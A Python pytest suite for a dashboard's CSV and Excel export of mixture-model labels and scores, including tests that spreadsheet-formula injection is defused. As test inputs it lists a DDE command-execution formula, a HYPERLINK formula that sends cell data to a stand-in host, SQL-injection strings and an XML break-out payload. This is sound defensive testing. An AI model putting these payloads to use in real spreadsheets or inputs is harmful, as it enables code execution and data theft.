"""The labelled table, read back by others: csv, pandas, openpyxl, calamine; densities by SciPy."""

from __future__ import annotations

import csv
import gc
import io
import tempfile
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from scipy.special import logsumexp
from scipy.stats import multivariate_normal
from xlsxwriter.exceptions import FileCreateError

from dashboard.analysis import Fit
from dashboard.data import DataError, Table, samples
from dashboard.data.reading import read
from dashboard.data.table import Column
from dashboard.engine import Mixture
from dashboard.exports import Model, labelled
from dashboard.exports.labelled import labelled_csv, labelled_xlsx
from tests.fits import fitted, made_table, sample_fit

Cells = dict[str, list[Any]]

SIGNS = "=+-@＝＋－＠"
FORMULAS = (
    "=1+1", "+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example?"&A1,"x")', "\t=1", "\r=1", "\tx", "\rx",
    "\nx", "  =1+1", "\u00a0=1", "\u3000＝1", "\u200e=1", "\u202e=1", "\ufeff=1", "\x00=1",
    "-1-1", "-", "--1", "-1)", "-e1", "-x", "+886 2 1234",
)  # fmt: skip
HARMLESS = (
    "-1", "-1.5", "-.5", "-1,5", "-1e-5", "1-1", "a=b", "'=1", "x\ty", "x\r\ny", "a,b", 'a "b"',
    '"', ",", "' OR 1=1 --", "</script><script>", "*/", "\\", "\\n", "__proto__", "😀", "標，記",
    "a\u202eb", "_x0041_", "http://a.example", "<r>", "<t>&amp;", "nan", "a;b", "#", "é" * 9,
)  # fmt: skip
BREAK_OUT = '<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r></r>'


def texts_column(label: str, texts: Sequence[str | None], key: str = "c1") -> Column:
    levels = list(dict.fromkeys(text for text in texts if text is not None))
    codes = [-1 if text is None else levels.index(text) for text in texts]
    return Column(key, label, "text", np.array(codes, dtype=np.int32), levels)


def table_of(*columns: Column) -> Table:
    return Table("made", columns, len(columns[0].values))


def holed_fit() -> Fit:
    """Iris, read with every seventh number and every fifth species missing."""
    iris = samples.load("iris")
    rows = zip(
        *(column.texts() if column.levels else column.values for column in iris), strict=True
    )
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerow(column.label for column in iris)
    for i, (*numbers, species) in enumerate(rows):
        holed = ["" if (4 * i + j) % 7 == 0 else number for j, number in enumerate(numbers)]
        writer.writerow([*holed, "" if i % 5 == 0 else species])
    return fitted(read(io.BytesIO(source.getvalue().encode()), "iris"))


def line(n: int, label: str = "x") -> Column:
    return Column("c0", label, "numeric", np.linspace(-3, 3, n))


def model_of(names: Sequence[str] = ("1", "2"), column: str = "x") -> Model:
    K = len(names)
    mixture = Mixture(np.full(K, 1 / K), np.arange(K)[:, None] * 2.0 - 1, np.ones((K, 1, 1)))
    return Model(mixture, (column,), tuple(names), -3.0, 0.01, {})


def csv_bytes(model: Model, table: Table) -> bytes:
    return b"".join(labelled_csv(model, table))


def records(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def by_csv(model: Model, table: Table) -> Cells:
    """Columns of texts, by their names."""
    header, *rows = records(csv_bytes(model, table))
    assert len(set(header)) == len(header)
    return dict(zip(header, map(list, zip(*rows, strict=True)), strict=True))


def workbook(model: Model, table: Table) -> io.BytesIO:
    file = io.BytesIO()
    labelled_xlsx(model, table, file)
    return file


def by_openpyxl(file: io.BytesIO, sheet: str = "Rows") -> Cells:
    header, *rows = openpyxl.load_workbook(file)[sheet].iter_rows(values_only=True)
    assert len(set(header)) == len(header)
    return dict(zip(map(str, header), map(list, zip(*rows, strict=True)), strict=True))


def by_calamine(file: io.BytesIO, sheet: str = "Rows") -> Cells:
    """As openpyxl gives it, but whole numbers are floats."""
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue()))
        .get_sheet_by_name(sheet)
        .to_python()
    )
    cells = [[None if cell == "" else cell for cell in row] for row in rows[1:]]
    return dict(zip(map(str, rows[0]), map(list, zip(*cells, strict=True)), strict=True))


def judged(model: Model, X: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Probabilities and log-densities by SciPy."""
    mixture = model.mixture
    parts = np.stack(
        [
            np.log(weight) + multivariate_normal(mean, covariance).logpdf(X).reshape(len(X))
            for weight, mean, covariance in zip(
                mixture.weights, mixture.means, mixture.covariances, strict=True
            )
        ],
        axis=1,
    )
    log_densities = logsumexp(parts, axis=1)
    return np.exp(parts - log_densities[:, None]), log_densities


def require_scores(cells: Cells, model: Model, X: np.ndarray) -> None:
    """That the new columns of the whole rows X (n, d) are as SciPy has them."""
    probabilities, log_densities = judged(model, X)
    for k, name in enumerate(model.names):
        written = np.array(cells[f"probability of {name}"], dtype=float)
        np.testing.assert_allclose(written, probabilities[:, k], rtol=0, atol=1e-9)
    written = np.array(cells["log_density"], dtype=float)
    np.testing.assert_allclose(written, log_densities, rtol=1e-9, atol=1e-9)
    assert cells["component"] == [model.names[k] for k in probabilities.argmax(axis=1)]
    anomalies = (log_densities < model.threshold).astype(int)
    np.testing.assert_array_equal(np.array(cells["anomaly"], dtype=int), anomalies)


def plain(text: str) -> str:
    """The text without what XML cannot hold."""
    kept = (c for c in text if c in "\t\n\r" or (" " <= c < "\ufffe" or c > "\uffff"))
    return "".join(c for c in kept if unicodedata.category(c) != "Cs")


def dangerous(text: str) -> bool:
    """Whether what can be seen of a text begins as a formula, or a tab or line break does."""
    unseen = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp")}
    return text[:1] in ("\t", "\r", "\n") or text.lstrip("".join(unseen))[:1] in tuple(SIGNS)


# --- what is written of each row


def test_original_columns_come_first_unchanged_and_the_new_ones_are_right() -> None:
    fit = holed_fit()
    model = Model.of(fit)
    cells = by_csv(model, fit.table)
    own = [column.label for column in fit.table]
    new = ["component", *(f"probability of {k}" for k in "123"), "log_density", "anomaly"]
    assert list(cells) == own + new
    for column in fit.table:
        if column.kind == "text":
            assert cells[column.label] == [text or "" for text in column.texts()]
        else:
            got = [float(cell or "nan") for cell in cells[column.label]]
            np.testing.assert_array_equal(got, column.values)
    assert 0 < len(fit.rows) < fit.table.n_rows
    require_scores({name: [cells[name][i] for i in fit.rows] for name in new}, model, fit.X)
    for i in set(range(fit.table.n_rows)) - set(fit.rows.tolist()):
        assert [cells[name][i] for name in new] == [""] * len(new)
    assert cells["anomaly"].count("1") == np.ceil(model.share * len(fit.rows))


def test_pandas_reads_the_same() -> None:
    fit = holed_fit()
    model = Model.of(fit, names=("small", "tall, and wide", "鳶尾"))
    frame = pd.read_csv(io.BytesIO(csv_bytes(model, fit.table)))
    assert len(frame) == fit.table.n_rows
    whole = frame.iloc[fit.rows]
    require_scores({name: whole[name].tolist() for name in whole}, model, fit.X)
    assert frame.drop(index=fit.rows)[[*frame][-6:]].isna().all(axis=None)
    for column in fit.table:
        if column.kind == "numeric":
            np.testing.assert_array_equal(frame[column.label], column.values)


def test_large_offsets_and_far_rows() -> None:
    generator = np.random.default_rng(3)
    X = generator.normal(size=(300, 2)) + 1e6
    X[:2] = 1e6 + np.array([[0, 500.0], [-700, 300]])
    columns = (Column(f"c{j}", f"x{j}", "numeric", X[:, j].copy()) for j in range(2))
    means = 1e6 + np.array([[-1, 0], [1, 0.5]])
    covariances = np.array([[[1, 0.3], [0.3, 2]], [[0.5, 0], [0, 1]]])
    mixture = Mixture([0.3, 0.7], means, covariances)
    model = Model(mixture, ("x0", "x1"), ("a", "b"), -6.0, 0.01, {})
    cells = by_csv(model, Table("made", tuple(columns), 300))
    assert float(cells["log_density"][0]) < -5e4
    require_scores(cells, model, X)


def test_rows_on_both_sides_of_every_block_are_the_same_as_in_one(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    table = made_table(["x", "y"], 1000)
    model = Model.of(fitted(table, ["c0", "c1"]))
    monkeypatch.setattr(labelled, "BLOCK_CELLS", 8 * 3)  # three rows, the last block has one
    pieces = list(labelled_csv(model, table))
    assert len(pieces) == 1 + 334
    require_scores(by_csv(model, table), model, table.matrix(["c0", "c1"])[0])


def test_columns_are_found_by_name_in_another_table() -> None:
    model = model_of()
    rest = texts_column("note", ["a", "b", "c"])
    cells = by_csv(model, table_of(rest, line(3)))
    assert list(cells)[:2] == ["note", "x"]
    require_scores(cells, model, np.linspace(-3, 3, 3)[:, None])


def test_a_table_without_a_whole_row_has_empty_cells() -> None:
    table = table_of(Column("c0", "x", "numeric", np.full(3, np.nan)))
    assert records(csv_bytes(model_of(), table))[1:] == [[""] * 6] * 3


@pytest.mark.parametrize("write", [csv_bytes, labelled_csv, workbook])
def test_a_table_that_lacks_columns_is_refused_at_once(write: Any) -> None:
    with pytest.raises(DataError, match=r"lacks columns of the model: .*'x'"):
        write(model_of(), table_of(line(3, "z")))
    with pytest.raises(DataError, match="hold texts"):
        write(model_of(), table_of(texts_column("x", ["a", "b"])))


def test_new_names_give_way_to_those_of_the_table() -> None:
    taken = ["component", "Anomaly", "probability of 1", "probability of 1 (2)", "LOG_density"]
    extra = [texts_column(name, ["a", "b"], f"c{j + 1}") for j, name in enumerate(taken)]
    table = table_of(line(2), *extra)
    new = ["component (2)", "probability of 1 (3)", "probability of 2", "log_density (2)"]
    assert records(csv_bytes(model_of(), table))[0] == ["x", *taken, *new, "anomaly (2)"]
    assert list(by_openpyxl(workbook(model_of(), table)))[6:] == [*new, "anomaly (2)"]


# --- the form of the CSV


def test_bytes_are_as_rfc_4180_and_excel_want_them() -> None:
    table = table_of(line(2), texts_column("a, b", ['say "hi"', "x\r\ny"]))
    data = csv_bytes(model_of(("1", "two, three")), table)
    assert data.startswith(b'\xef\xbb\xbfx,"a, b",component,probability of 1,"probability of two')
    assert data.count(b"\xef\xbb\xbf") == 1
    assert b'-3,"say ""hi""",1,' in data
    assert b'3,"x\r\ny","two, three",' in data
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == 4


@given(
    st.lists(st.floats(allow_nan=True, allow_infinity=False), min_size=1, max_size=20),
    st.sampled_from([1.0, 1e15, 9.007199254740992e15]),
)
def test_numbers_read_back_the_same(numbers: list[float], size: float) -> None:
    values = np.array([*numbers, size, -size, size + 1, size / 3, 0.0, -0.0, 5e-324, 1.7e308])
    other = Column("c1", "y", "numeric", values)
    written = by_csv(model_of(), table_of(line(len(values)), other))["y"]
    read_back = np.array([float(cell) if cell else np.nan for cell in written])
    np.testing.assert_array_equal(read_back, values)
    np.testing.assert_array_equal(
        np.signbit(read_back)[values == 0], np.signbit(values[values == 0])
    )
    assert not any(cell.endswith(".0") for cell in written if cell != "-0.0")


def test_nothing_but_numbers_is_written_for_numbers() -> None:
    values = np.array([1e308, -1e308, 1e200, np.nan, np.inf, -np.inf, 5e-324, 0, 1])
    table = table_of(Column("c0", "x", "numeric", values))
    rows = records(csv_bytes(model_of(), table))[1:]
    assert all(np.isfinite(float(cell)) for row in rows for cell in row if cell)
    assert [row[0] == "" for row in rows] == (~np.isfinite(values)).tolist()
    cells = [
        cell for column in by_openpyxl(workbook(model_of(), table)).values() for cell in column
    ]
    assert not any(isinstance(cell, float) and not np.isfinite(cell) for cell in cells)
    assert not any(str(cell).startswith("#") for cell in cells)


@settings(max_examples=200)
@given(
    st.lists(
        st.none()
        | st.text(min_size=1)
        | st.tuples(st.sampled_from(["", " ", "\t", "\u200e "]), st.sampled_from(SIGNS), st.text())
        .map("".join)
        | st.sampled_from(HARMLESS),
        min_size=1,
    )
)  # fmt: skip
def test_texts_read_back_the_same_but_for_an_apostrophe(texts: list[str | None]) -> None:
    table = table_of(line(len(texts)), texts_column("t", texts))
    written = by_csv(model_of(), table)["t"]
    for text, cell in zip(texts, written, strict=True):
        whole = plain(text or "")
        assert cell in (whole, f"'{whole}")
        if cell == whole and dangerous(cell):  # none but a negative number
            digits = cell.removeprefix("-").lower().replace("e-", "e").replace("e+", "e")
            assert cell[0] == "-"
            assert digits.replace("e", "", 1).replace(".", "").replace(",", "").isdecimal()


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_an_apostrophe(text: str) -> None:
    table = table_of(line(2), texts_column(text, [text, "x"]))
    header, first, second = records(csv_bytes(model_of((text, "2")), table))
    defused = "'" + text.replace("\x00", "")
    assert (header[1], first[1], first[2], second[1]) == (defused, defused, defused, "x")
    assert header[3] == f"probability of {text}".replace("\x00", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text: str) -> None:
    table = table_of(line(2), texts_column(text, [text, "x"]))
    for header, first, *_ in (
        records(csv_bytes(model_of((text, "2")), table)),
        pd.read_csv(
            io.BytesIO(csv_bytes(model_of((text, "2")), table)),
            header=None, dtype=str, keep_default_na=False,
        ).values.tolist(),
    ):  # fmt: skip
        assert (header[1], first[1], first[2]) == (text, text, text)


def test_a_table_from_a_hostile_file_comes_back() -> None:
    labels = ["x", "=1+1", "__proto__", "</script>", 'a"b', "c,d", "'; DROP TABLE --", "年齡"]
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerow(labels)
    for i in range(30):
        writer.writerow([i / 7 - 2, "=2+2", "+x", "@y", 'say "no"', "a, b", "-z", f"第{i}"])
    table = read(io.BytesIO(source.getvalue().encode()), "=table")
    cells = by_csv(model_of(), table)
    assert list(cells)[:8] == ["x", "'=1+1", *labels[2:]]
    own = [cells[name][0] for name in list(cells)[1:8]]
    assert own == ["'=2+2", "'+x", "'@y", 'say "no"', "a, b", "'-z", "第0"]
    assert [float(cell) for cell in cells["x"]] == [i / 7 - 2 for i in range(30)]
    again = read(io.BytesIO(csv_bytes(model_of(), table)), "again")
    np.testing.assert_array_equal(again.columns[0].values, table.columns[0].values)


def test_escaped_names_stay_different() -> None:
    table = table_of(line(2), texts_column("=a", ["x", "y"]), texts_column("'=a", ["x", "y"], "c2"))
    assert records(csv_bytes(model_of(), table))[0][1:3] == ["'=a", "'=a (2)"]


def test_a_large_table_streams() -> None:
    labels = [f"x{j}" for j in range(10)]
    keys = [f"c{j}" for j in range(10)]
    model = Model.of(fitted(made_table(labels, 2_000), keys))
    table = made_table(labels, 200_000)
    last, n_pieces = b"", 0
    tracemalloc.start()
    try:
        for piece in labelled_csv(model, table):
            last, n_pieces = piece, n_pieces + 1
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert n_pieces > 20
    assert peak < 40e6
    header = records(next(labelled_csv(model, table)))[0]
    rows = records(last)
    X = table.matrix(keys)[0][-len(rows) :]
    require_scores(dict(zip(header, map(list, zip(*rows, strict=True)), strict=True)), model, X)


# --- the workbook


@pytest.mark.parametrize("by", [by_openpyxl, by_calamine])
def test_a_workbook_holds_the_same_rows(by: Any) -> None:
    fit = holed_fit()
    model = Model.of(fit, names=("1", "=two", "鳶尾"))
    cells = by(workbook(model, fit.table))
    for column in fit.table:
        if column.kind == "text":
            assert cells[column.label] == column.texts()
        else:
            got = [np.nan if cell is None else cell for cell in cells[column.label]]
            np.testing.assert_array_equal(got, column.values)
    new = list(cells)[len(fit.table.columns) :]
    assert len(new) == 6
    require_scores({name: [cells[name][i] for i in fit.rows] for name in new}, model, fit.X)
    for i in set(range(fit.table.n_rows)) - set(fit.rows.tolist()):
        assert [cells[name][i] for name in new] == [None] * 6


@pytest.mark.parametrize("by", [by_openpyxl, by_calamine])
def test_numbers_of_a_workbook_read_back_the_same(by: Any) -> None:
    values = np.random.default_rng(1).normal(size=500) * 10.0 ** np.arange(-250, 250)
    values[:4] = 0.1 + 0.2, 1e16, 9007199254740993.0, -0.0
    table = table_of(line(500), Column("c1", "y", "numeric", values))
    np.testing.assert_array_equal(by(workbook(model_of(), table))["y"], values)


@pytest.mark.parametrize("by", [by_openpyxl, by_calamine])
def test_the_second_sheet_holds_the_components(by: Any) -> None:
    fit = sample_fit("faithful")
    model = Model.of(fit, names=("a", "=b", ""))
    cells = by(workbook(model, fit.table), "Components")
    assert cells.pop("component") == ["a", "=b", "3"]
    np.testing.assert_array_equal(cells.pop("weight"), model.mixture.weights)
    for j, column in enumerate(fit.columns):
        np.testing.assert_array_equal(
            cells.pop(f"mean of {column.label}"), model.mixture.means[:, j]
        )
        variances = model.mixture.covariances[:, j, j]
        deviations = np.array(cells.pop(f"standard deviation of {column.label}"))
        np.testing.assert_allclose(deviations**2, variances, rtol=1e-14)
    assert not cells


def test_the_header_stays_in_sight_and_can_be_filtered_by() -> None:
    fit = sample_fit("faithful")
    book = openpyxl.load_workbook(workbook(Model.of(fit), fit.table))
    assert book.sheetnames == ["Rows", "Components"]
    assert [sheet.freeze_panes for sheet in book] == ["A2", "A2"]
    assert book["Rows"].auto_filter.ref == "A1:H273"
    assert book["Components"].auto_filter.ref == "A1:F4"


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, BREAK_OUT, "<r>x</r>", "a\x07b", "\ud800"])
def test_every_text_is_a_text_in_a_workbook(text: str) -> None:
    table = table_of(line(2), texts_column(text, [text, "x"]))
    file = workbook(model_of((text, "2")), table)
    assert_no_more_than_texts_and_numbers(file, {"Rows": 3 * 7, "Components": 3 * 4}, text)
    wanted = plain(text)
    for rows in (
        list(openpyxl.load_workbook(file)["Rows"].iter_rows(values_only=True)),
        CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue()))
        .get_sheet_by_name("Rows")
        .to_python(),
    ):
        found = [rows[0][1], rows[1][1], rows[1][2]]
        assert [unescaped(cell) for cell in found] == [wanted] * 3
        assert unescaped(rows[0][3]) == f"probability of {wanted}"


def unescaped(cell: Any) -> str:
    """A text as Excel shows it: readers leave its escapes of line breaks and underscores."""
    return str(cell or "").replace("_x000D_", "\r").replace("_x005F_", "_")


def assert_no_more_than_texts_and_numbers(
    file: io.BytesIO, n_cells: dict[str, int], text: str = "x"
) -> None:
    """That the sheets hold so many cells, none a formula, and the workbook no link."""
    with zipfile.ZipFile(file) as parts:
        sheets = [name for name in parts.namelist() if "worksheets/sheet" in name]
        assert len(sheets) == len(n_cells)
        for name, n in zip(sorted(sheets), n_cells.values(), strict=True):
            tags = [
                element.tag.split("}")[1]
                for element in ElementTree.fromstring(parts.read(name)).iter()
            ]
            assert tags.count("f") == 0
            assert "hyperlink" not in tags
            empty = n - tags.count("c")
            assert empty == 0 if plain(text) else 0 < empty <= 3
        assert not any(
            ".rels" in name and b"External" in parts.read(name) for name in parts.namelist()
        )


def test_formulas_of_a_workbook_are_marked_as_texts() -> None:
    table = table_of(line(3), texts_column("=t", ["=1+1", "x", "-5"]))
    sheet = openpyxl.load_workbook(workbook(model_of(), table))["Rows"]
    marks = [bool(cell.quotePrefix) for cell in sheet["B"]]
    assert marks == [True, True, False, False]
    assert [cell.value for cell in sheet["B"]] == ["=t", "=1+1", "x", "-5"]


@pytest.mark.parametrize(
    "text",
    [
        "é" * 32_768,
        "=" * 40_000,
        "😀" * 20_000,
        "a" + "😀" * 20_000,
        "資" * 32_767,
        "<r>" + "x" * (32_767 - 7) + "</r>" + "cut",
        BREAK_OUT.ljust(32_763, "y") + "</r>z",
    ],
)  # fmt: skip
def test_long_texts_are_cut_to_what_a_cell_of_excel_holds(text: str) -> None:
    table = table_of(line(2), texts_column("t", [text, "x"]))
    file = workbook(model_of((text, "2")), table)
    assert_no_more_than_texts_and_numbers(file, {"Rows": 3 * 7, "Components": 3 * 4})
    for cells in (by_openpyxl(file), by_calamine(file)):
        for name in ("t", "component"):
            cell = cells[name][0]
            assert text.startswith(cell)
            units = len(cell.encode("utf-16-le")) // 2
            assert 32_766 <= units <= 32_767
        assert max(map(len, cells)) <= 255


def test_long_names_of_components_stay_different_columns() -> None:
    names = ("n" * 32_000, "n" * 32_000 + "!")
    table = table_of(line(2))
    assert len(by_csv(model_of(names), table)) == 6
    file = workbook(model_of(names), table)
    assert len(by_openpyxl(file)) == 6
    assert len(by_openpyxl(file, "Components")) == 4


def test_tables_larger_than_a_sheet_are_refused() -> None:
    values = np.broadcast_to(0.0, 1_048_576)
    with pytest.raises(DataError, match=r"1048576 rows and needs 6 columns\. Take the CSV") as one:
        workbook(model_of(), Table("long", (Column("c0", "x", "numeric", values),), 1_048_576))
    assert one.value.values["most_rows"] == 1_048_576
    columns = [Column(f"c{j}", f"x{j}", "numeric", np.zeros(2)) for j in range(16_380)]
    with pytest.raises(DataError, match=r"2 rows and needs 16385 columns\. Take the CSV"):
        workbook(model_of(column="x0"), Table("wide", tuple(columns), 2))


def test_tables_as_large_as_a_sheet_are_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(labelled, "EXCEL_ROWS", 11)
    monkeypatch.setattr(labelled, "EXCEL_COLUMNS", 6)
    assert len(by_openpyxl(workbook(model_of(), table_of(line(10))))["x"]) == 10
    with pytest.raises(DataError, match="11 rows"):
        workbook(model_of(), table_of(line(11)))
    with pytest.raises(DataError, match="7 columns"):
        workbook(model_of(("1", "2", "3")), table_of(line(10)))


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # of zipfile
def test_no_file_is_left_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    class Full(io.BytesIO):
        def write(self, data: Any) -> int:
            raise OSError("no space left")

    workbook(model_of(), table_of(line(10)))
    assert not list(tmp_path.iterdir())
    with pytest.raises(FileCreateError, match="no space left"):
        labelled_xlsx(model_of(), table_of(line(10)), Full())
    assert not list(tmp_path.iterdir())
    gc.collect()


@pytest.mark.parametrize("name", sorted(samples.SAMPLES))
def test_every_sample_comes_back(name: str) -> None:
    fit = sample_fit(name, K=2)
    model = Model.of(fit)
    cells, file = by_csv(model, fit.table), workbook(model, fit.table)
    require_scores({n: [cells[n][i] for i in fit.rows] for n in [*cells][-5:]}, model, fit.X)
    sheet = by_openpyxl(file)
    assert list(sheet) == list(cells)
    assert all(len(column) == fit.table.n_rows for column in sheet.values())


def test_a_workbook_tells_its_progress_and_can_be_ended() -> None:
    table = table_of(line(5_000))
    shares: list[float] = []
    labelled_xlsx(model_of(), table, io.BytesIO(), shares.append)
    assert shares == sorted(shares)
    assert shares[0] == 0
    assert 0.5 < shares[-1] < 1
    assert len(shares) == 6
    calls = iter(range(10))

    def cancel(share: float) -> None:
        if next(calls) == 3:
            raise InterruptedError

    file = io.BytesIO()
    with pytest.raises(InterruptedError):
        labelled_xlsx(model_of(), table, file, cancel)
    assert file.getvalue() == b""
